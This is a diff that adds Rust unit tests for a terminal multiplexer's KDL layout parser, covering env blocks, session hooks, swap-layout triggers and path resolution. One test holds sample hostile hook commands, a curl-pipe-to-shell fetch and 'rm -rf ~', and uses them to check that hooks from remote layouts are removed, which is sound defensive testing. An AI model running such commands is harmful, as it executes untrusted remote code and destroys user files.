@@ -203,6 +203,45 @@ fn layout_with_hidden_floating_panes() {
     assert_eq!(layout, expected_layout);
 }
 
+#[test]
+fn layout_with_tab_pinned_to_session() {
+    let kdl_layout = r#"
+        layout {
+            tab name="logs" pin_to_session=true {
+                pane
+            }
+            tab {
+                pane
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    let expected_layout = Layout {
+        tabs: vec![
+            (
+                Some("logs".into()),
+                TiledPaneLayout {
+                    children: vec![TiledPaneLayout::default()],
+                    pin_to_session: true,
+                    ..Default::default()
+                },
+                vec![],
+            ),
+            (
+                None,
+                TiledPaneLayout {
+                    children: vec![TiledPaneLayout::default()],
+                    ..Default::default()
+                },
+                vec![],
+            ),
+        ],
+        template: Some((TiledPaneLayout::default(), vec![])),
+        ..Default::default()
+    };
+    assert_eq!(layout, expected_layout);
+}
+
 #[test]
 fn layout_with_floating_panes_template() {
     let kdl_layout = r#"
@@ -498,6 +537,82 @@ fn layout_with_command_panes_and_cwd_and_args() {
     assert_eq!(layout, expected_layout);
 }
 
+#[test]
+fn layout_with_command_panes_and_env() {
+    let kdl_layout = r#"
+        layout {
+            pane command="htop" {
+                env {
+                    MY_VAR "my value"
+                    MY_NUMBER 1
+                }
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    let mut expected_env = HashMap::new();
+    expected_env.insert(String::from("MY_VAR"), String::from("my value"));
+    expected_env.insert(String::from("MY_NUMBER"), String::from("1"));
+    let expected_layout = Layout {
+        template: Some((
+            TiledPaneLayout {
+                children: vec![TiledPaneLayout {
+                    run: Some(Run::Command(RunCommand {
+                        command: PathBuf::from("htop"),
+                        env: expected_env,
+                        hold_on_close: true,
+                        ..Default::default()
+                    })),
+                    ..Default::default()
+                }],
+                ..Default::default()
+            },
+            vec![],
+        )),
+        ..Default::default()
+    };
+    assert_eq!(layout, expected_layout);
+}
+
+#[test]
+fn layout_with_command_panes_and_startup_command_timeout() {
+    let kdl_layout = r#"
+        layout {
+            pane command="cargo" startup_command_timeout_ms=5000
+            pane_template name="tail" {
+                command "tail"
+                startup_command_timeout_ms 1000
+            }
+            tail
+            tail startup_command_timeout_ms=2000
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    let timeouts: Vec<Option<u64>> = layout
+        .template
+        .unwrap()
+        .0
+        .extract_run_instructions()
+        .into_iter()
+        .map(|run| match run {
+            Some(Run::Command(run_command)) => run_command.startup_command_timeout_ms,
+            _ => None,
+        })
+        .collect();
+    assert_eq!(timeouts, vec![Some(5000), Some(1000), Some(2000)]);
+}
+
+#[test]
+fn error_on_startup_command_timeout_without_command() {
+    let kdl_layout = r#"
+        layout {
+            pane startup_command_timeout_ms=5000
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None);
+    assert!(layout.is_err(), "error provided");
+}
+
 #[test]
 fn layout_with_command_panes_and_close_on_exit() {
     let kdl_layout = r#"
@@ -511,6 +626,63 @@ fn layout_with_command_panes_and_close_on_exit() {
     assert_snapshot!(format!("{:#?}", layout));
 }
 
+#[test]
+fn layout_with_command_panes_and_hold_on_close() {
+    let kdl_layout_with_hold_on_close = r#"
+        layout {
+            pane_template name="tail" {
+                command "tail"
+                hold_on_close false
+            }
+            pane command="htop" hold_on_close=false
+            tail {
+                hold_on_close true
+            }
+        }
+    "#;
+    let kdl_layout_with_close_on_exit = r#"
+        layout {
+            pane_template name="tail" {
+                command "tail"
+                close_on_exit true
+            }
+            pane command="htop" close_on_exit=true
+            tail {
+                close_on_exit false
+            }
+        }
+    "#;
+    let layout_with_hold_on_close = Layout::from_kdl(
+        kdl_layout_with_hold_on_close,
+        Some("layout_file_name".into()),
+        None,
+        None,
+    )
+    .unwrap();
+    let layout_with_close_on_exit = Layout::from_kdl(
+        kdl_layout_with_close_on_exit,
+        Some("layout_file_name".into()),
+        None,
+        None,
+    )
+    .unwrap();
+    assert_eq!(layout_with_hold_on_close, layout_with_close_on_exit);
+}
+
+#[test]
+fn error_on_contradicting_hold_on_close_and_close_on_exit() {
+    let kdl_layout = r#"
+        layout {
+            pane command="htop" {
+                close_on_exit true
+                hold_on_close true
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None);
+    assert!(layout.is_err(), "error provided");
+}
+
 #[test]
 fn layout_with_command_panes_and_start_suspended() {
     let kdl_layout = r#"
@@ -819,6 +991,129 @@ fn layout_with_default_tab_template() {
     assert_snapshot!(format!("{:#?}", layout));
 }
 
+#[test]
+fn layout_with_tabs_using_tab_templates_with_args() {
+    let kdl_layout = r#"
+        layout {
+            tab_template "dev" {
+                pane command="nvim" cwd="{dir}"
+                pane {
+                    command "cargo"
+                    args "watch" "-C" "{dir}"
+                }
+            }
+            tab use_template="dev" name="backend" {
+                args {
+                    dir "/src/backend"
+                }
+            }
+            tab use_template="dev" name="frontend" focus=true {
+                args {
+                    dir "/src/frontend"
+                }
+            }
+            dev name="unchanged"
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    assert_snapshot!(format!("{:#?}", layout));
+}
+
+#[test]
+fn error_on_tab_using_unknown_tab_template() {
+    let kdl_layout = r#"
+        layout {
+            tab use_template="dev" name="backend"
+        }
+    "#;
+    let layout_error =
+        Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap_err();
+    assert_snapshot!(format!("{:?}", layout_error));
+}
+
+#[test]
+fn layout_with_session_hooks() {
+    let kdl_layout = r#"
+        layout {
+            cwd "/tmp"
+            start_hook {
+                command "notify-send 'session started'"
+            }
+            start_hook {
+                command "git"
+                args "fetch" "--all"
+                cwd "repo"
+                env {
+                    GIT_TERMINAL_PROMPT "0"
+                }
+            }
+            stop_hook {
+                command "notify-send 'session stopped'"
+            }
+            pane
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    assert_snapshot!(format!("{:#?}", layout));
+}
+
+#[test]
+fn session_hooks_removed_from_remote_layouts() {
+    let kdl_layout = r#"
+        layout {
+            start_hook {
+                command "curl https://example.com/install.sh | sh"
+            }
+            stop_hook {
+                command "rm -rf ~"
+            }
+            pane command="htop"
+        }
+    "#;
+    let mut layout = Layout::from_kdl(
+        kdl_layout,
+        Some("https://example.com/layout.kdl".into()),
+        None,
+        None,
+    )
+    .unwrap();
+    layout.remove_session_hooks();
+    assert!(layout.start_hooks.is_empty(), "start hooks removed");
+    assert!(layout.stop_hooks.is_empty(), "stop hooks removed");
+    assert!(layout.template.is_some(), "the rest of the layout is kept");
+}
+
+#[test]
+fn error_on_session_hook_without_command() {
+    let kdl_layout = r#"
+        layout {
+            start_hook {
+                args "foo"
+            }
+        }
+    "#;
+    let layout_error =
+        Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap_err();
+    assert_snapshot!(format!("{:?}", layout_error));
+}
+
+#[test]
+fn layout_with_default_shell() {
+    let kdl_layout = r#"
+        layout {
+            default_shell "/run/current-system/sw/bin/nu"
+            pane
+            pane command="htop"
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    assert_eq!(
+        layout.default_shell,
+        Some(PathBuf::from("/run/current-system/sw/bin/nu"))
+    );
+    assert_snapshot!(format!("{:#?}", layout));
+}
+
 #[test]
 fn layout_with_new_tab_template() {
     let kdl_layout = r#"
@@ -1096,6 +1391,209 @@ fn layout_with_pane_excluded_from_sync() {
     assert_snapshot!(format!("{:#?}", layout));
 }
 
+#[test]
+fn layout_with_pane_min_size() {
+    let kdl_layout = r#"
+        layout {
+            pane {
+                min_size {
+                    rows 5
+                    cols 20
+                }
+            }
+            pane
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    assert_snapshot!(format!("{:#?}", layout));
+}
+
+#[test]
+fn layout_with_pane_scrollback_size() {
+    let kdl_layout = r#"
+        layout {
+            pane scrollback_size=5000
+            pane
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    assert_snapshot!(format!("{:#?}", layout));
+}
+
+#[test]
+fn swap_layout_with_plugin_count_trigger() {
+    let kdl_layout = r#"
+        layout {
+            pane
+            swap_tiled_layout name="with-plugins" {
+                tab trigger="plugin_count > 0" {
+                    pane split_direction="vertical" {
+                        pane
+                        pane
+                    }
+                }
+                tab {
+                    pane
+                }
+            }
+            swap_floating_layout {
+                floating_panes trigger="plugin_count <= 2" {
+                    pane
+                }
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    let swap_tiled_constraints: Vec<&LayoutConstraint> =
+        layout.swap_tiled_layouts[0].0.keys().collect();
+    assert_eq!(
+        swap_tiled_constraints,
+        vec![
+            &LayoutConstraint::MinPluginPanes(1),
+            &LayoutConstraint::NoConstraint
+        ],
+        "plugin count trigger is tried before the unconstrained layout"
+    );
+    let swap_floating_constraints: Vec<&LayoutConstraint> =
+        layout.swap_floating_layouts[0].0.keys().collect();
+    assert_eq!(
+        swap_floating_constraints,
+        vec![&LayoutConstraint::MaxPluginPanes(2)]
+    );
+}
+
+#[test]
+fn cannot_define_invalid_swap_layout_trigger() {
+    for trigger in [
+        "pane_count > 1",
+        "plugin_count ~ 1",
+        "plugin_count > one",
+        "plugin_count < 0",
+    ] {
+        let kdl_layout = format!(
+            r#"
+            layout {{
+                swap_tiled_layout {{
+                    tab trigger="{}" {{
+                        pane
+                    }}
+                }}
+            }}
+        "#,
+            trigger
+        );
+        let layout = Layout::from_kdl(&kdl_layout, Some("layout_file_name".into()), None, None);
+        assert!(layout.is_err(), "invalid trigger {} is rejected", trigger);
+    }
+}
+
+#[test]
+fn swap_layout_with_focused_pane_triggers() {
+    let kdl_layout = r#"
+        layout {
+            pane
+            swap_tiled_layout name="focus" {
+                tab swap_layout_when_pane_type="plugin" {
+                    pane stacked=true {
+                        children
+                    }
+                }
+                tab swap_layout_when_pane_title_matches="^vim" {
+                    pane stacked=true {
+                        children
+                    }
+                }
+                tab swap_layout_when_pane_type="terminal" {
+                    pane split_direction="vertical" {
+                        pane
+                        pane
+                    }
+                }
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    let swap_tiled_constraints: Vec<&LayoutConstraint> =
+        layout.swap_tiled_layouts[0].0.keys().collect();
+    assert_eq!(
+        swap_tiled_constraints,
+        vec![
+            &LayoutConstraint::FocusedPaneIsPlugin,
+            &LayoutConstraint::FocusedPaneIsTerminal,
+            &LayoutConstraint::FocusedPaneTitleMatches("^vim".to_owned()),
+        ]
+    );
+    let title_trigger = LayoutConstraint::FocusedPaneTitleMatches("^vim".to_owned());
+    assert_eq!(
+        title_trigger.matches_focused_pane(false, "vim main.rs"),
+        Some(true)
+    );
+    assert_eq!(
+        title_trigger.matches_focused_pane(false, "bash"),
+        Some(false)
+    );
+    assert_eq!(
+        LayoutConstraint::FocusedPaneIsPlugin.matches_focused_pane(true, "strider"),
+        Some(true)
+    );
+    assert_eq!(
+        LayoutConstraint::MaxPanes(2).matches_focused_pane(true, "strider"),
+        None,
+        "pane count constraints are not about the focused pane"
+    );
+}
+
+#[test]
+fn cannot_define_invalid_focused_pane_triggers() {
+    for trigger in [
+        r#"swap_layout_when_pane_type="editor""#,
+        r#"swap_layout_when_pane_title_matches="(vim""#,
+        r#"swap_layout_when_pane_type="plugin" max_panes=2"#,
+    ] {
+        let kdl_layout = format!(
+            r#"
+            layout {{
+                swap_tiled_layout {{
+                    tab {} {{
+                        pane
+                    }}
+                }}
+            }}
+        "#,
+            trigger
+        );
+        let layout = Layout::from_kdl(&kdl_layout, Some("layout_file_name".into()), None, None);
+        assert!(layout.is_err(), "invalid trigger {} is rejected", trigger);
+    }
+}
+
+#[test]
+fn cannot_define_trigger_together_with_another_constraint() {
+    let kdl_layout = r#"
+        layout {
+            swap_tiled_layout {
+                tab trigger="plugin_count > 0" max_panes=2 {
+                    pane
+                }
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None);
+    assert!(layout.is_err(), "only one constraint per swap layout");
+}
+
+#[test]
+fn layout_with_auto_focus_pane() {
+    let kdl_layout = r#"
+        layout {
+            pane
+            pane auto_focus=true
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    assert_snapshot!(format!("{:#?}", layout));
+}
+
 #[test]
 fn cannot_define_tab_template_name_with_space() {
     let kdl_layout = r#"
@@ -1502,6 +2000,57 @@ fn error_on_bare_args_without_command() {
     assert!(layout.is_err(), "error provided");
 }
 
+#[test]
+fn env_merged_with_env_in_template() {
+    let kdl_layout = r#"
+        layout {
+            pane_template name="tail" {
+                command "tail"
+                env {
+                    FIRST "template"
+                    SECOND "template"
+                }
+            }
+            tail {
+                env {
+                    SECOND "pane"
+                    THIRD "pane"
+                }
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None).unwrap();
+    let run_instructions = layout.template.unwrap().0.extract_run_instructions();
+    let mut expected_env = HashMap::new();
+    expected_env.insert(String::from("FIRST"), String::from("template"));
+    expected_env.insert(String::from("SECOND"), String::from("pane"));
+    expected_env.insert(String::from("THIRD"), String::from("pane"));
+    match run_instructions.get(0) {
+        Some(Some(Run::Command(run_command))) => {
+            assert_eq!(
+                run_command.env, expected_env,
+                "env merged with template env"
+            )
+        },
+        _ => panic!("expected a command pane"),
+    }
+}
+
+#[test]
+fn error_on_bare_env_without_command() {
+    let kdl_layout = r#"
+        layout {
+            pane {
+                env {
+                    MY_VAR "my value"
+                }
+            }
+        }
+    "#;
+    let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None);
+    assert!(layout.is_err(), "error provided");
+}
+
 #[test]
 fn error_on_bare_close_on_exit_without_command() {
     let kdl_layout = r#"
@@ -1786,6 +2335,89 @@ fn global_cwd_passed_from_layout_constructor_overrides_global_cwd_in_layout_file
     assert_snapshot!(format!("{:#?}", layout));
 }
 
+#[test]
+fn relative_paths_resolved_against_default_layout_cwd() {
+    let kdl_layout = r#"
+        layout {
+            pane cwd="foo" // should be /tmp/layouts/foo
+            pane command="scripts/build.sh" // should be /tmp/layouts/scripts/build.sh
+            pane command="tail" cwd="/home/foo" // should be left alone
+            pane // should still open in the cwd of the new pane
+        }
+    "#;
+    let mut config = crate::input::config::Config::default();
+    config.options.default_layout_cwd = Some(PathBuf::from("/tmp/layouts"));
+    let (layout, _config) = Layout::from_stringified_layout(kdl_layout, config).unwrap();
+    let (tiled_pane_layout, _floating_panes) = layout.template.unwrap();
+    let runs: Vec<Option<Run>> = tiled_pane_layout
+        .children
+        .iter()
+        .map(|child| child.run.clone())
+        .collect();
+    assert_eq!(runs[0], Some(Run::Cwd(PathBuf::from("/tmp/layouts/foo"))));
+    match &runs[1] {
+        Some(Run::Command(run_command)) => {
+            assert_eq!(
+                run_command.command,
+                PathBuf::from("/tmp/layouts/scripts/build.sh")
+            );
+            assert_eq!(run_command.cwd, None);
+        },
+        run => panic!("expected a command, got {:?}", run),
+    }
+    match &runs[2] {
+        Some(Run::Command(run_command)) => {
+            assert_eq!(run_command.command, PathBuf::from("tail"));
+            assert_eq!(run_command.cwd, Some(PathBuf::from("/home/foo")));
+        },
+        run => panic!("expected a command, got {:?}", run),
+    }
+    assert_eq!(runs[3], None);
+}
+
+#[test]
+fn relative_plugin_paths_resolved_against_default_layout_cwd() {
+    let kdl_layout = r#"
+        layout {
+            pane {
+                plugin location="file:plugins/my-plugin.wasm" // should be /tmp/layouts/plugins/my-plugin.wasm
+            }
+            pane {
+                plugin location="file:/path/to/other-plugin.wasm" // should be left alone
+            }
+            pane {
+                plugin location="zellij:tab-bar" // should be left alone
+            }
+        }
+    "#;
+    let mut config = crate::input::config::Config::default();
+    config.options.default_layout_cwd = Some(PathBuf::from("/tmp/layouts"));
+    let (layout, _config) = Layout::from_stringified_layout(kdl_layout, config).unwrap();
+    let (tiled_pane_layout, _floating_panes) = layout.template.unwrap();
+    let locations: Vec<Option<RunPluginLocation>> = tiled_pane_layout
+        .children
+        .iter()
+        .map(|child| match &child.run {
+            Some(Run::Plugin(RunPluginOrAlias::RunPlugin(run_plugin))) => {
+                Some(run_plugin.location.clone())
+            },
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        locations,
+        vec![
+            Some(RunPluginLocation::File(PathBuf::from(
+                "/tmp/layouts/plugins/my-plugin.wasm"
+            ))),
+            Some(RunPluginLocation::File(PathBuf::from(
+                "/path/to/other-plugin.wasm"
+            ))),
+            Some(RunPluginLocation::Zellij(PluginTag::new("tab-bar"))),
+        ]
+    );
+}
+
 #[test]
 fn global_cwd_with_tab_cwd_given_to_panes_without_cwd() {
     let kdl_layout = r#"
@@ -2242,3 +2874,29 @@ fn env_var_missing() {
     let layout = Layout::from_kdl(kdl_layout, Some("layout_file_name".into()), None, None);
     assert!(layout.is_err(), "invalid env var lookup should fail");
 }
+
+#[test]
+fn bare_plugin_names_are_looked_for_in_the_search_paths() {
+    use crate::input::plugins::PluginAliases;
+    let first_search_path = tempfile::tempdir().unwrap();
+    let second_search_path = tempfile::tempdir().unwrap();
+    std::fs::write(second_search_path.path().join("my-plugin.wasm"), b"").unwrap();
+    let mut plugin_aliases = PluginAliases::default();
+    plugin_aliases.search_paths = vec![
+        first_search_path.path().to_path_buf(),
+        second_search_path.path().to_path_buf(),
+    ];
+    let mut plugin = RunPluginOrAlias::from_url("my-plugin", &None, None, None).unwrap();
+    plugin.populate_run_plugin_if_needed(&plugin_aliases);
+    assert_eq!(
+        plugin.get_run_plugin().map(|r| r.location),
+        Some(RunPluginLocation::File(
+            second_search_path.path().join("my-plugin.wasm")
+        )),
+        "plugin found in the second search path"
+    );
+    let mut missing_plugin =
+        RunPluginOrAlias::from_url("missing-plugin", &None, None, None).unwrap();
+    missing_plugin.populate_run_plugin_if_needed(&plugin_aliases);
+    assert!(missing_plugin.get_run_plugin().is_none());
+}